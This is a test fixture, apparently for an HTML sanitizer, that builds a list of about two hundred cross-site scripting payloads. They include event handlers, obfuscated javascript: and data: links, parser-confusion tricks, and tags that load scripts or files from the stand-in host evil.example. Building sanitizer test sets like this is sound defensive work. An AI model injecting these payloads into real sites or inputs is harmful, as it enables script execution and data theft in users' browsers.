/** Code that an attack would run. The code leaves a mark that the browser test looks for. */
const mark = 'window.ran=1'
const away = 'https://evil.example/x'

const tags = 'a b p h2 li td blockquote table ul strong'.split(' ')
const events = 'onclick onload onerror onmouseover onfocus ontoggle'.split(' ')

/** Common elements with an event handler; most of the elements are allowed. */
const handlers = tags.flatMap((tag) =>
  events.map((event) => `<${tag} ${event}="${mark}" autofocus tabindex="0">نص</${tag}>`),
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'javascript&#58;',
  'vbscript:',
  'livescript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'DATA:text/html,',
  'blob:',
  'file:',
  'filesystem:',
  'view-source:',
  'jar:',
  'feed:javascript:',
  'mhtml:',
  'x-javascript:',
  'about:blank#',
]

/** Every scheme in a link and in a picture. */
const links = schemes.flatMap((scheme) => [
  `<p><a href="${scheme}${mark}">رابط</a></p>`,
  `<p><img src="${scheme}${mark}" alt="صورة"></p>`,
])

const loaders = 'iframe frame embed object applet portal video audio source track input script link'.split(' ')

/** Elements that load a file without a click, with the address in `src`, or in `data` and `href`. */
const loading = loaders.flatMap((tag) => [
  `<${tag} src="${away}"></${tag}>`,
  `<${tag} data="${away}" href="${away}"></${tag}>`,
])

const parsing = [
  `<script>${mark}</script>`,
  `<ScRiPt>${mark}</sCrIpT>`,
  `<script/x>${mark}</script>`,
  `<script\n>${mark}</script\n>`,
  `<<script>${mark}//<</script>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `<script>${mark}`,
  `<img src=x onerror=${mark}>`,
  `<img src="x" onerror="${mark}"`,
  `<img/src=x/onerror=${mark}>`,
  `<img src=\`x\` onerror=\`${mark}\`>`,
  `<img """><script>${mark}</script>">`,
  `<img src="/media/x.webp" onerror="${mark}">`,
  `<img src="/api/logout">`,
  `<img src="//evil.example/x.png">`,
  `<img src="\\\\evil.example\\x.png">`,
  `<img srcset="${away} 1x" src="${away}">`,
  `<img src="${away}" loading="eager">`,
  `<picture><source srcset="${away}"><img src="${away}"></picture>`,
  `<svg onload="${mark}"></svg>`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><a xlink:href="javascript:${mark}"><text y="20">x</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${mark}"/><a href="#">x</a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${mark}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${mark}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${mark}></style></mglyph></table></mtext></math>`,
  `<math><a xlink:href="javascript:${mark}">x</a></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${mark}></style></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>`,
  `<style><img src="</style><img src=x onerror=${mark}>"></style>`,
  `<textarea><img title="</textarea><img src=x onerror=${mark}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${mark}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${mark}>"></xmp>`,
  `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  `<template><script>${mark}</script></template>`,
  `<!--><img src=x onerror=${mark}>-->`,
  `<!--[if IE]><script>${mark}</script><![endif]-->`,
  `<![CDATA[<script>${mark}</script>]]>`,
  `<?xml version="1.0"?><script>${mark}</script>`,
  `<style>@import "${away}"; p{background:url(${away})}</style>`,
  `<p style="background:url(${away})">نص</p>`,
  `<p style="behavior:url(${away})">نص</p>`,
  `<link rel="stylesheet" href="${away}">`,
  `<link rel="prefetch" href="${away}">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,${mark}">`,
  `<base href="${away}/">`,
  `<form action="${away}"><button autofocus>x</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${mark}">x</button>`,
  `<input onfocus="${mark}" autofocus>`,
  `<select onfocus="${mark}" autofocus><option>x</option></select>`,
  `<details open ontoggle="${mark}">x</details>`,
  `<marquee onstart="${mark}">x</marquee>`,
  `<body onload="${mark}">`,
  `<html onmouseover="${mark}"><p>نص</p></html>`,
  `<a href="https://example.com" onclick="${mark}" ping="${away}">رابط</a>`,
  `<a href="https://example.com" style="position:fixed;inset:0">رابط</a>`,
  `<table background="${away}"><tr><td background="${away}">نص</td></tr></table>`,
  `<x onclick="${mark}">نص</x><custom-part onconnected="${mark}"></custom-part>`,
  `<p id="cookie" name="body" class="hidden">نص</p>`,
  `${'<b>'.repeat(600)}نص${'</b>'.repeat(600)}`,
  `<p>${'<span onclick='.repeat(80)}</p>`,
  `<p>نص</p><script>${mark}</script><h2>قسم</h2><a href="data:text/html,x">هنا</a>`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
]

/** About two hundred documents that try to run code or load a file when a browser shows them. */
export const hostileDocuments: readonly string[] = [...handlers, ...links, ...loading, ...parsing]
